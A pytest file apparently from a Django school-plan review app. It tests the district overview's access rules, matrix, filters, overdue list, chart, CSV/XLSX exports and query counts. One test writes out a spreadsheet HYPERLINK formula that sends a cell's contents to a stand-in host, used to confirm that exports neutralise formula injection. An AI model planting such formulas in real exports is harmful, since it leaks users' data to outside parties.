"""The district overview: schools against requirements, counts, overdue list, chart and exports."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterator

import openpyxl  # type: ignore[import-untyped]
import pytest
import time_machine
from django.conf import settings
from django.contrib.auth.models import User
from django.db import connection
from django.http import HttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from lxml import html

from plans.demo.documents import Quality
from plans.models import CheckRun, CheckStatus, Plan, PlanVersion, RequirementResult, School
from plans.selectors import template_for
from reviews import selectors
from reviews import services as review_services
from reviews.models import PlanStatus
from tests.conftest import World, client_for
from tests.factories import PlanFactory, SchoolFactory
from tests.reviews.builders import at, plan_with_status, stub_version
from tests.reviews.conftest import checked_version

pytestmark = pytest.mark.django_db

OVERVIEW = "reviews:overview"
SYMBOL = {"met": "✓ Met", "partial": "◐ Partly met", "missing": "✗ Missing"}
NOT_CHECKED = "– Not checked"


@pytest.fixture(autouse=True)
def _before_due_date() -> Iterator[None]:
    """15 September 2025: the plans are not due until 30 September, so nothing is overdue yet."""
    with time_machine.travel(at(2025, 9, 15), tick=False):
        yield


@pytest.fixture
def after_due_date(_before_due_date: None) -> Iterator[None]:
    """10 October 2025: plans were due on 30 September."""
    with time_machine.travel(at(2025, 10, 10), tick=False):
        yield


def english(user: User) -> Client:
    client = client_for(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def get(client: Client, name: str = OVERVIEW, **params: str | int) -> HttpResponse:
    response = client.get(reverse(name), params)
    assert isinstance(response, HttpResponse)
    return response


def text(node: html.HtmlElement) -> str:
    return " ".join(node.text_content().split())


def matrix(response: HttpResponse) -> dict[str, list[str]]:
    """School name → the matrix row's cells (status, checked version, one cell per requirement)."""
    assert response.status_code == 200, response.content.decode()
    tree = html.fromstring(response.content.decode())
    return {
        text(row.xpath("th")[0]): [text(cell) for cell in row.xpath("td")]
        for row in tree.xpath("//table[contains(@class, 'matrix')]/tbody/tr")
    }


def table(response: HttpResponse, caption_start: str) -> list[list[str]]:
    tree = html.fromstring(response.content.decode())
    [found] = [t for t in tree.xpath("//table") if text(t.xpath("caption")[0]).startswith(caption_start)]
    return [[text(cell) for cell in row.xpath("th|td")] for row in found.xpath("tbody/tr|tfoot/tr")]


def expected_cells(version: PlanVersion) -> list[str]:
    run = CheckRun.objects.get(version=version)
    results = {r.key: r.status for r in run.results.all()}
    keys = template_for(version.plan.school_year).requirements.order_by("order", "key")
    return [SYMBOL[results[r.key]] if r.key in results else NOT_CHECKED for r in keys]


def quick_checked(plan: Plan, statuses: list[str]) -> PlanVersion:
    """A version marked checked with the given statuses in template order, without reading a .docx."""
    version = stub_version(plan)
    version.check_status = CheckStatus.CHECKED
    version.save()
    template = template_for(plan.school_year)
    run = CheckRun.objects.create(version=version, template=template, engine_version="test")
    RequirementResult.objects.bulk_create(
        RequirementResult(check_run=run, order=n, key=r.key, status=status, reason="test")
        for n, (r, status) in enumerate(
            zip(template.requirements.order_by("order", "key"), statuses, strict=True)
        )
    )
    version.current_run = run
    version.save(update_fields=["current_run"])
    return version


# --- Who may see it ---


@pytest.mark.parametrize(
    ("who", "code"),
    [
        ("district_admin", 200),
        ("reviewer_same_area", 200),
        ("principal_a", 403),
        ("service_account", 200),  # read only, and it reads everything in its district (issue 14.8)
        ("nobody", 403),
    ],
)
@pytest.mark.parametrize("name", [OVERVIEW, "reviews:overview-csv", "reviews:overview-xlsx"])
def test_only_district_admins_reviewers_and_the_service_account_see_the_overview_and_its_exports(
    request: pytest.FixtureRequest, world: World, who: str, code: int, name: str
) -> None:
    response = get(english(request.getfixturevalue(who)), name)
    assert response.status_code == code
    if code == 403:
        assert "Only the district administrators, reviewers and service account may see" in (
            response.content.decode()
        )


@pytest.mark.parametrize("name", [OVERVIEW, "reviews:overview-csv", "reviews:overview-xlsx"])
def test_someone_not_signed_in_is_sent_to_the_login_page(world: World, name: str) -> None:
    response = get(Client(), name)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_menu_links_the_overview_for_reviewers_only(
    world: World, reviewer_same_area: User, principal_a: User
) -> None:
    link = f'href="{reverse(OVERVIEW)}"'
    assert link in get(english(reviewer_same_area), "home").content.decode()
    assert link not in get(english(principal_a), "home").content.decode()


def test_another_districts_admin_sees_only_their_own_schools(
    world: World, other_district_admin: User
) -> None:
    assert list(matrix(get(english(other_district_admin)))) == ["Annanskolan"]


def test_a_district_admin_does_not_see_another_districts_school_even_by_area(
    world: World, district_admin: User
) -> None:
    other_area = world.school_other_district.area
    assert other_area is not None
    assert matrix(get(english(district_admin), area=other_area.pk)) == {}


# --- The matrix ---


def test_the_matrix_shows_each_requirement_of_the_latest_checked_version_with_symbol_and_text(
    world: World, district_admin: User
) -> None:
    plan = PlanFactory(school=world.school_a, school_year=world.year)
    version = checked_version(plan, quality=Quality.PARTIAL)
    rows = matrix(get(english(district_admin)))
    assert list(rows) == ["Ekbacken", "Västra gymnasiet"]
    assert rows["Ekbacken"] == ["Not submitted", "1", *expected_cells(version)]
    assert {"✓ Met", "✗ Missing"} <= set(rows["Ekbacken"][2:])  # a partial plan has both
    assert rows["Västra gymnasiet"] == ["Not submitted", "–", *[NOT_CHECKED] * 12]


def test_each_cell_hides_its_symbol_from_screen_readers_and_says_it_in_words(
    world: World, district_admin: User
) -> None:
    quick_checked(PlanFactory(school=world.school_a, school_year=world.year), ["met"] * 12)
    body = get(english(district_admin)).content.decode()
    assert '<td class="cell status-met"><span aria-hidden="true">✓</span> Met</td>' in body
    assert '<td class="cell status-not_checked"><span aria-hidden="true">–</span> Not checked</td>' in body


def test_a_version_waiting_for_its_check_leaves_the_previous_checked_version_in_the_matrix(
    world: World, district_admin: User
) -> None:
    plan = PlanFactory(school=world.school_a, school_year=world.year)
    quick_checked(plan, ["met"] * 12)
    stub_version(plan)  # version 2, queued
    row = matrix(get(english(district_admin)))["Ekbacken"]
    assert row[1:3] == ["1", "✓ Met"]


def test_the_school_links_to_its_plans_review_when_it_has_a_plan(world: World, district_admin: User) -> None:
    plan = PlanFactory(school=world.school_a, school_year=world.year)
    body = get(english(district_admin)).content.decode()
    assert f'href="{reverse("reviews:plan", args=[plan.pk])}">Ekbacken</a>' in body
    assert '<th scope="row">Västra gymnasiet</th>' in body


def test_the_page_is_swedish_by_default(world: World, district_admin: User) -> None:
    quick_checked(PlanFactory(school=world.school_a, school_year=world.year), ["partial"] * 12)
    rows = matrix(get(client_for(district_admin)))
    assert rows["Ekbacken"][:3] == ["Inte inlämnad", "1", "◐ Delvis uppfyllt"]


# --- Filters and counts ---


@pytest.fixture
def statuses(world: World, district_admin: User) -> None:
    """Ekbacken (area A, grundskola): not submitted; Västra gymnasiet (area B): approved;
    Lindgrenskolan (area A, grundskola and fritidshem): in review."""
    plan_with_status(world.school_b, world.year, PlanStatus.APPROVED, by=district_admin, when=at(2025, 9, 1))
    lindgren = SchoolFactory(area=world.area_a, name="Lindgrenskolan", forms=["grundskola", "fritidshem"])
    plan_with_status(lindgren, world.year, PlanStatus.IN_REVIEW, by=district_admin, when=at(2025, 9, 1))


@pytest.mark.parametrize(
    ("filters", "schools"),
    [
        ({}, ["Ekbacken", "Lindgrenskolan", "Västra gymnasiet"]),
        ({"area": "area_a"}, ["Ekbacken", "Lindgrenskolan"]),
        ({"area": "area_b"}, ["Västra gymnasiet"]),
        ({"form": "gymnasieskola"}, ["Västra gymnasiet"]),
        ({"form": "fritidshem"}, ["Lindgrenskolan"]),
        ({"status": "approved"}, ["Västra gymnasiet"]),
        ({"status": "not_submitted"}, ["Ekbacken"]),
        ({"area": "area_a", "status": "in_review"}, ["Lindgrenskolan"]),
        ({"area": "area_a", "status": "approved"}, []),
        ({"status": "no-such-status", "form": "no-such-form", "area": "x"}, None),  # ignored
    ],
)
def test_the_matrix_filters_by_area_school_form_and_status(
    world: World, district_admin: User, statuses: None, filters: dict[str, str], schools: list[str] | None
) -> None:
    params = dict(filters)
    if params.get("area", "").startswith("area_"):
        params["area"] = str(getattr(world, params["area"]).pk)
    shown = list(matrix(get(english(district_admin), **params)))
    assert shown == (schools if schools is not None else ["Ekbacken", "Lindgrenskolan", "Västra gymnasiet"])


def test_counts_by_status_follow_area_and_form_but_not_the_status_filter(
    world: World, district_admin: User, statuses: None
) -> None:
    client = english(district_admin)
    counts = table(get(client, status="approved"), "Number of schools")
    assert counts == [
        ["Not submitted", "1"],
        ["Submitted", "0"],
        ["In review", "1"],
        ["Changes requested", "0"],
        ["Resubmitted", "0"],
        ["Approved", "1"],
        ["All statuses", "3"],
    ]
    in_area_a = table(get(client, area=world.area_a.pk), "Number of schools")
    assert [row for row in in_area_a if row[1] != "0"] == [
        ["Not submitted", "1"],
        ["In review", "1"],
        ["All statuses", "2"],
    ]


def test_a_count_links_to_the_matrix_filtered_by_that_status(
    world: World, district_admin: User, statuses: None
) -> None:
    body = get(english(district_admin), area=world.area_a.pk).content.decode()
    assert f'href="?year=2025%2F26&amp;area={world.area_a.pk}&amp;status=in_review">In review</a>' in body


# --- Overdue ---


def test_the_overdue_list_names_late_plans_and_late_reviews(
    world: World, district_admin: User, statuses: None, after_due_date: None
) -> None:
    response = get(english(district_admin))
    assert table(response, "Overdue plans and reviews") == [
        ["Lindgrenskolan", "In review", "the reviewer's decision", "⚠ 2025-09-22"],  # 1 Sep + 21 days
        ["Ekbacken", "Not submitted", "the school's plan", "⚠ 2025-09-30"],
    ]
    rows = matrix(response)
    assert rows["Ekbacken"][0] == "Not submitted ⚠ overdue"
    assert rows["Västra gymnasiet"][0] == "Approved"


def test_nothing_is_overdue_before_the_due_date(world: World, district_admin: User) -> None:
    body = get(english(district_admin)).content.decode()
    assert "Nothing is overdue." in body


def test_the_selector_gives_rows_counts_and_overdue_for_a_filtered_year(
    world: World, district_admin: User, statuses: None
) -> None:
    year = selectors.school_year_matrix(
        School.objects.all(), school_year=world.year, today=datetime.date(2025, 10, 10), area=world.area_a.pk
    )
    assert [(r.school.name, r.status, r.overdue) for r in year.rows] == [
        ("Ekbacken", "not_submitted", True),
        ("Lindgrenskolan", "in_review", True),
    ]
    assert len(year.requirements) == 12
    assert year.by_status["not_submitted"] == 1
    assert [(r.school.name, r.kind) for r in year.overdue] == [
        ("Lindgrenskolan", "review"),
        ("Ekbacken", "plan"),
    ]


# --- The chart ---


def test_the_chart_has_a_labelled_bar_per_requirement_with_the_count_meeting_it(
    world: World, district_admin: User
) -> None:
    first = template_for(world.year).requirements.order_by("order", "key")[0]
    quick_checked(PlanFactory(school=world.school_a, school_year=world.year), ["met"] + ["missing"] * 11)
    quick_checked(PlanFactory(school=world.school_b, school_year=world.year), ["met"] * 2 + ["partial"] * 10)
    tree = html.fromstring(get(english(district_admin)).content.decode())
    [svg] = tree.xpath("//svg")
    assert svg.get("role") == "img"
    assert text(svg.xpath("title")[0]) == "Schools that meet each requirement"
    assert f"{first.title_en} 2;" in text(svg.xpath("desc")[0])
    bars = svg.xpath("g")
    assert len(bars) == 12
    assert [text(t) for t in bars[0].xpath("text")] == [first.title_en, "2 of 2"]
    assert [text(t) for t in bars[1].xpath("text")][1] == "1 of 2"
    assert [text(t) for t in bars[2].xpath("text")][1] == "0 of 2"


# --- Exports ---


PREAMBLE = 4  # what the file shows (year, filters, date), then an empty line


def read_csv(response: HttpResponse, *, with_preamble: bool = False) -> list[list[str]]:
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return lines if with_preamble else lines[PREAMBLE:]


def read_xlsx(response: HttpResponse) -> openpyxl.worksheet.worksheet.Worksheet:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def table_of(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[tuple[object, ...]]:
    return list(sheet.iter_rows(values_only=True))[PREAMBLE:]


def test_the_csv_export_has_a_header_and_swedish_labels_by_default(
    world: World, district_admin: User
) -> None:
    quick_checked(
        PlanFactory(school=world.school_a, school_year=world.year), ["met", "partial"] + ["missing"] * 10
    )
    response = get(client_for(district_admin), "reviews:overview-csv")
    assert response["Content-Disposition"] == 'attachment; filename="oversikt-2025-26.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = read_csv(response)
    first = template_for(world.year).requirements.order_by("order", "key")[0]
    assert header[:3] == ["Skola", "Skolenhetskod", "Område"]
    assert header[12] == first.title_sv
    assert len(header) == 12 + 12
    assert rows[0][:15] == [
        "Ekbacken",
        "11111111",
        "Grundskoleavdelningen",
        "Grundskola",
        "Inte inlämnad",
        "",  # no status date before it is handed in
        "",  # no reviewer assigned in this world
        "Nej",
        "",
        "0",
        "1",
        "Nej",
        "Uppfyllt",
        "Delvis uppfyllt",
        "Saknas",
    ]
    assert rows[1][0] == "Västra gymnasiet"
    assert rows[1][10] == ""


def test_the_exports_follow_the_filters(world: World, district_admin: User) -> None:
    client = english(district_admin)
    lines = read_csv(get(client, "reviews:overview-csv", area=world.area_b.pk), with_preamble=True)
    assert lines[0] == ["District overview of the plans, school year 2025/26"]
    assert lines[1] == ["Filters: area Gymnasieavdelningen; school form all; status all"]
    assert lines[2][0].startswith("Exported 20")
    assert [r[0] for r in lines[PREAMBLE:]] == ["School", "Västra gymnasiet"]
    sheet = read_xlsx(get(client, "reviews:overview-xlsx", form="grundskola"))
    assert [row[0] for row in table_of(sheet)] == ["School", "Ekbacken"]
    assert sheet.cell(2, 1).value == "Filters: area all; school form Compulsory school; status all"


def test_the_overview_links_to_the_exports_with_the_same_filters(world: World, district_admin: User) -> None:
    body = get(english(district_admin), area=world.area_a.pk, status="approved").content.decode()
    query = f"?year=2025%2F26&amp;area={world.area_a.pk}&amp;status=approved"
    assert f'href="{reverse("reviews:overview-csv")}{query}"' in body
    assert f'href="{reverse("reviews:overview-xlsx")}{query}"' in body


def test_the_xlsx_export_has_a_bold_frozen_header_and_sized_columns(
    world: World, district_admin: User
) -> None:
    quick_checked(PlanFactory(school=world.school_a, school_year=world.year), ["met"] * 12)
    response = get(english(district_admin), "reviews:overview-xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="oversikt-2025-26.xlsx"'
    sheet = read_xlsx(response)
    assert sheet.title == "2025-26"
    assert sheet.freeze_panes == f"A{PREAMBLE + 2}"
    assert all(cell.font.bold for cell in sheet[PREAMBLE + 1])
    assert sheet.column_dimensions["A"].width >= len("Västra gymnasiet")
    values = table_of(sheet)
    assert values[0][:12] == (
        "School",
        "School unit code",
        "Area",
        "School forms",
        "Status",
        "Status since",
        "Reviewer",
        "Overdue",
        "Days overdue",
        "Open feedback items",
        "Checked version",
        "Newer version not handed in",
    )
    assert values[1][:14] == (
        "Ekbacken",
        "11111111",
        "Grundskoleavdelningen",
        "Compulsory school",
        "Not submitted",
        None,
        None,
        "No",
        None,
        0,
        1,
        "No",
        "Met",
        "Met",
    )
    assert values[2][12:] == ("Not checked",) * 12


def test_a_school_name_that_looks_like_a_formula_stays_text_in_both_exports(
    world: World, district_admin: User
) -> None:
    evil = '=HYPERLINK("http://example.test/?x="&A1,"Klicka")'
    SchoolFactory(area=world.area_a, name=evil)
    SchoolFactory(area=world.area_a, name="@SUM(1+1)")
    SchoolFactory(area=world.area_a, name="-2+3")
    SchoolFactory(area=world.area_a, name="+46 skolan")
    client = english(district_admin)
    names = [row[0] for row in read_csv(get(client, "reviews:overview-csv"))[1:]]
    assert names == [
        "'+46 skolan",
        "'-2+3",
        '\'=HYPERLINK("http://example.test/?x="&A1,"Klicka")',
        "'@SUM(1+1)",
        "Ekbacken",
        "Västra gymnasiet",
    ]
    sheet = read_xlsx(get(client, "reviews:overview-xlsx"))
    cells = [row[0] for row in sheet.iter_rows(min_row=PREAMBLE + 2)]
    assert [c.value for c in cells][:4] == names[:4]
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas


# --- Queries ---


def add_schools(world: World, count: int, start: int) -> None:
    for n in range(start, start + count):
        school = SchoolFactory(area=world.area_a, name=f"Skola {n:02d}", forms=["grundskola", "fritidshem"])
        plan = PlanFactory(school=school, school_year=world.year)
        quick_checked(plan, ["met", "partial", "missing"] * 4)
        stub_version(plan)


@pytest.mark.parametrize("name", [OVERVIEW, "reviews:overview-csv", "reviews:overview-xlsx"])
def test_the_overview_costs_the_same_number_of_queries_for_3_and_15_schools(
    world: World, district_admin: User, name: str
) -> None:
    client = english(district_admin)

    def count_queries() -> int:
        get(client, name)  # the session is loaded the same way each time
        with CaptureQueriesContext(connection) as captured:
            assert get(client, name).status_code == 200
        return len(captured)

    add_schools(world, 1, 0)  # with Ekbacken and Västra gymnasiet: 3 schools
    few = count_queries()
    add_schools(world, 12, 1)
    assert School.objects.filter(district=world.district).count() == 15
    assert count_queries() == few


def test_a_newer_upload_not_handed_in_is_named_and_the_results_stay_those_of_the_version_handed_in(
    world: World, district_admin: User, principal_a: User
) -> None:
    """Issue 14.4: an approved plan shows the approved version's results, not a newer upload's."""
    plan = PlanFactory(school=world.school_a, school_year=world.year)
    quick_checked(plan, ["met"] * 12)
    review_services.submit(plan=plan, by=principal_a)
    review_services.start_review(plan=plan, by=district_admin)
    review_services.approve(plan=plan, by=district_admin)
    quick_checked(plan, ["missing"] * 12)  # version 2, uploaded after the approval, never handed in
    client = english(district_admin)
    header, ekbacken, _vastra = read_csv(get(client, "reviews:overview-csv"))
    row = dict(zip(header, ekbacken, strict=True))
    assert row["Status"] == "Approved"
    assert row["Status since"] == f"{timezone.localdate():%Y-%m-%d}"
    assert (row["Checked version"], row["Newer version not handed in"]) == ("1", "Yes")
    first = template_for(world.year).requirements.order_by("order", "key")[0]
    assert row[first.title_en] == "Met"
    assert "a newer version exists, not handed in" in get(client).content.decode()


def test_the_start_page_offers_the_upload_link_only_to_those_who_may_upload(
    world: World, principal_a: User, service_account: User, reviewer_same_area: User
) -> None:
    """Issue 14.8: no link that ends in 403 (the read-only service account, a reviewer)."""
    upload = reverse("plans:upload", args=[world.school_a.pk])
    assert upload in client_for(principal_a).get(reverse("home")).content.decode()
    for reader in (service_account, reviewer_same_area):
        body = client_for(reader).get(reverse("home")).content.decode()
        assert "Ekbacken" in body and upload not in body
    assert reverse(OVERVIEW) in client_for(service_account).get(reverse("home")).content.decode()
